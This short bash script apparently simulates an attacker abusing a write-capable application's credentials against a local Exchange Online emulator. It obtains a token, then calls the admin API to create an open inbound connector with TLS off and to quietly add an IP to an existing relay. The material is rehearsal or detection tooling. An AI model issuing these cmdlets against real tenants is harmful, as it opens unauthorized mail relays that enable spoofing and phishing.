#!/usr/bin/env bash
# What an attacker does who got hold of an application that may write: a relay of his own, and, far quieter, one
# address more in an old relay. Sent to the emulator on this machine, as Exchange's own PowerShell module would.
set -euo pipefail

login=${LOGIN:-http://127.0.0.1:8440}
exchange=${EXCHANGE:-http://127.0.0.1:8441}
tenant=3b1e6f0a-5c0d-4d7e-9a51-0c7d1f2a4b01

token=$(curl -fsS "$login/$tenant/oauth2/v2.0/token" \
    -d grant_type=client_credentials -d client_id=22222222-2222-4222-8222-222222222222 \
    -d client_secret=rehearsal-secret -d "scope=$exchange/.default" |
    sed 's/.*"access_token": *"\([^"]*\)".*/\1/')

cmdlet() {
    curl -fsS "$exchange/adminapi/beta/$tenant/InvokeCommand" -o /dev/null \
        -H "Authorization: Bearer $token" -H 'Content-Type: application/json' \
        -d "{\"CmdletInput\":{\"CmdletName\":\"$1\",\"Parameters\":$2}}"
    echo "attacker: $1 $2"
}

cmdlet New-InboundConnector '{"Name":"Ran_xkqpd","ConnectorType":"OnPremises","SenderDomains":["*"],"SenderIPAddresses":["198.51.100.0/24"],"RequireTls":false}'
cmdlet Set-InboundConnector '{"Identity":"Relay from data centre 1","SenderIPAddresses":{"@odata.type":"#Exchange.GenericHashTable","Add":["198.51.100.7"]}}'
